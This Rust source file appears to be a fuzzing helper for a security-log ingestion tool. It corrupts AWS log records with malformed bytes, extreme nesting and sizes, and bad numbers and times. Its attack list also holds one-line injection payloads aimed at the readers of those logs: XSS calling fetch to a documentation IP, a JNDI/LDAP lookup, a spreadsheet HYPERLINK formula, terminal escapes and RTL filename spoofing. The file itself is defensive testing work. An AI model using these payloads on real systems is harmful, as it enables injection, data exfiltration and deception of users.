//! Attacks on whoever reads the events: what cannot be parsed, what is too large, and text that means something to a
//! browser, a terminal, a chat or a spreadsheet. Every attack stays on one line.

use portcullis_transforms::Source;

use super::random::Random;

/// What is done to an honest record.
#[derive(Clone, Copy, Debug)]
enum Attack {
    /// Bytes that are nothing at all.
    Garbage,
    /// Bytes in a text field that are not UTF-8.
    InvalidUtf8,
    /// Objects in objects, ten thousand deep.
    Nesting,
    /// A text field that is very long.
    Huge,
    /// A member that is there twice.
    DuplicateKey,
    /// The text is put in front of a text field's value.
    Text(&'static str),
    /// The digits are put in front of a number.
    Number(&'static str),
    /// The characters are put in front of a time.
    Time(&'static str),
    /// The record ends too early.
    Truncated,
    /// A record of another source.
    WrongSource,
    /// Nothing at all.
    Empty,
}

const ATTACKS: &[Attack] = &[
    Attack::Garbage,
    Attack::InvalidUtf8,
    Attack::Nesting,
    Attack::Huge,
    Attack::DuplicateKey,
    Attack::Text(r"\ud800"),
    Attack::Text(r"\udc00\ud800x"),
    Attack::Text(r"\u0000"),
    Attack::Text(r#"<script>fetch('//192.0.2.1')</script>"#),
    Attack::Text(r#"\"><img/src=x/onerror=alert(1)>"#),
    Attack::Text("<!channel>*bold*<https://192.0.2.1|console>`"),
    Attack::Text("=HYPERLINK(\\\"https://192.0.2.1\\\")"),
    Attack::Text(r"\u001b[2J\u001b]0;title\u0007\u202e"),
    Attack::Text("${jndi:ldap://192.0.2.1/a}%s%n{{7*7}}';--"),
    Attack::Text("\u{202e}gpj.\u{200b}exe\u{feff}"),
    Attack::Number("340282366920938463463374607431768211456"),
    Attack::Number("1e999"),
    Attack::Number("NaN"),
    Attack::Number("-"),
    Attack::Number("0.1e"),
    Attack::Time("9999999"),
    Attack::Time("-"),
    Attack::Time("today"),
    Attack::Truncated,
    Attack::WrongSource,
    Attack::Empty,
];

/// Lengths of a long text, most of them more than an index takes for one term; the last more than any record may have.
const LENGTHS: &[(usize, u16)] = &[(40_000, 90), (300_000, 8), (1_100_000, 1), (10_500_000, 1)];

const DEPTH: usize = 10_000;

/// Where a source's records have a text, a number and a time; for flow logs the columns.
enum Places {
    Members {
        text: &'static str,
        number: &'static str,
        time: &'static str,
    },
    Columns {
        text: usize,
        number: usize,
        time: usize,
    },
}

fn places(source: Source) -> Places {
    let (text, number, time) = match source {
        Source::GuardDuty => ("\"title\":\"", "\"count\":", "\"updatedAt\":\""),
        Source::SecurityHub => ("\"Title\":\"", "\"Normalized\":", "\"UpdatedAt\":\""),
        Source::Waf => ("\"uri\":\"", "\"formatVersion\":", "\"timestamp\":"),
        Source::Dns => ("\"query_name\":\"", "\"version\":\"", "\"query_timestamp\":\""),
        Source::CloudTrail => ("\"userAgent\":\"", "\"eventVersion\":\"", "\"eventTime\":\""),
        Source::VpcFlow => {
            return Places::Columns {
                text: 3,
                number: 9,
                time: 10,
            };
        }
    };
    Places::Members { text, number, time }
}

/// Appends an attack made from an honest record of the source.
pub(crate) fn write(source: Source, honest: &[u8], random: &mut Random, out: &mut Vec<u8>) {
    let places = places(source);
    let attack = *random.pick(ATTACKS);
    match attack {
        Attack::Garbage => garbage(random, out),
        Attack::InvalidUtf8 => insert(honest, places.text(honest), b"\xff\xc0\xaf\xed\xa0\x80", out),
        Attack::Nesting => nesting(random, out),
        Attack::Huge => {
            let weights: Vec<u16> = LENGTHS.iter().map(|length| length.1).collect();
            let length = LENGTHS[random.weighted(&weights)].0;
            let at = places.text(honest);
            out.extend_from_slice(&honest[..at]);
            out.resize(out.len() + length, b'A');
            out.extend_from_slice(&honest[at..]);
        }
        Attack::DuplicateKey => duplicate(source, honest, out),
        Attack::Text(text) => insert(honest, places.text(honest), &spelled(source, text), out),
        Attack::Number(digits) => insert(honest, places.number(honest), digits.as_bytes(), out),
        Attack::Time(prefix) => insert(honest, places.time(honest), prefix.as_bytes(), out),
        Attack::Truncated => out.extend_from_slice(&honest[..random.below(honest.len())]),
        Attack::WrongSource => out.extend_from_slice(match source {
            Source::VpcFlow => br#"{"eventVersion":"1.10","eventSource":"s3.amazonaws.com","eventName":"ListBuckets"}"#,
            _ => b"2 123456789012 eni-0a1b2c3d4e5f60718 10.0.0.5 10.0.0.9 443 49152 6 10 840 1793491100 1793491150 ACCEPT OK",
        }),
        Attack::Empty => {}
    }
}

impl Places {
    fn text(&self, record: &[u8]) -> usize {
        match *self {
            Places::Members { text, .. } => member(record, text),
            Places::Columns { text, .. } => column(record, text),
        }
    }

    fn number(&self, record: &[u8]) -> usize {
        match *self {
            Places::Members { number, .. } => member(record, number),
            Places::Columns { number, .. } => column(record, number),
        }
    }

    fn time(&self, record: &[u8]) -> usize {
        match *self {
            Places::Members { time, .. } => member(record, time),
            Places::Columns { time, .. } => column(record, time),
        }
    }
}

/// Where the value of a member begins; after the opening brace when it is not there.
fn member(record: &[u8], name: &str) -> usize {
    record
        .windows(name.len())
        .position(|window| window == name.as_bytes())
        .map_or(record.len().min(1), |at| at + name.len())
}

/// Where a column begins.
fn column(record: &[u8], index: usize) -> usize {
    record
        .iter()
        .enumerate()
        .filter(|&(_, &byte)| byte == b' ')
        .nth(index - 1)
        .map_or(0, |(at, _)| at + 1)
}

fn insert(record: &[u8], at: usize, piece: &[u8], out: &mut Vec<u8>) {
    out.extend_from_slice(&record[..at]);
    out.extend_from_slice(piece);
    out.extend_from_slice(&record[at..]);
}

fn garbage(random: &mut Random, out: &mut Vec<u8>) {
    for _ in 0..random.between(1, 2_000) {
        let byte = (random.next() & 0xff) as u8;
        out.push(if byte == b'\n' || byte == b'\r' { 0 } else { byte });
    }
}

fn nesting(random: &mut Random, out: &mut Vec<u8>) {
    let (open, close): (&[u8], u8) = if random.chance(50) {
        (b"[", b']')
    } else {
        (b"{\"a\":", b'}')
    };
    for _ in 0..DEPTH {
        out.extend_from_slice(open);
    }
    out.extend_from_slice(b"1");
    out.resize(out.len() + DEPTH, close);
}

/// The text as the source spells it: escaped in JSON, as it is in flow logs (where half a surrogate stays escaped).
fn spelled(source: Source, text: &str) -> Vec<u8> {
    let plain = match source {
        Source::VpcFlow => serde_json::from_str::<String>(&format!("\"{text}\"")).ok(),
        _ => None,
    };
    plain.map_or_else(|| text.as_bytes().to_vec(), String::into_bytes)
}

/// The first member again with another value, or every column of a line twice.
fn duplicate(source: Source, honest: &[u8], out: &mut Vec<u8>) {
    match source {
        Source::VpcFlow => {
            out.extend_from_slice(honest);
            out.push(b' ');
            out.extend_from_slice(honest);
        }
        _ => {
            let name_end = honest.iter().position(|&byte| byte == b':').unwrap_or(1);
            out.extend_from_slice(&honest[..name_end]);
            out.extend_from_slice(b":\"twice\",");
            out.extend_from_slice(&honest[1..]);
        }
    }
}
